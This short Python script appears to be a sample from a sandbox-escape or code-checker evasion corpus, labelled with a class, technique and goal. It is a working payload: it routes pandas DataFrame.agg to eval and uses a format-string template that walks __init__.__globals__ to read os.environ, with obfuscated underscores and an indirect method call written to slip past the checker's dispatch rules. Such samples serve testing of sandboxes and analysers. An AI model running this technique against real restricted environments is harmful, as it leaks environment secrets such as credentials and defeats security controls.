# class: format_lookup
# technique: DataFrame.eval through agg(**{'func': 'eval'}) calls @t.format(@o[0]): the format call lives in expression text; the dispatch method is called as [obj.method][0](...), which is not a method-call node the dispatch rules inspect
# goal: read
import numpy as np
import pandas as pd

u = "_" * 2
template = "{0." + u + "init" + u + "." + u + "globals" + u + "[sys].modules[os].environ}"

frame = pd.DataFrame({"x": np.arange(2)})
call = {"func": "eval", "expr": "@t.format(@o[0])", "local_dict": {"t": template, "o": [np.vectorize]}}
leak = [frame.agg][0](**call)
if not str(leak).startswith("environ("):
    raise RuntimeError("no environment")
df = pd.DataFrame({"environ": [leak]})
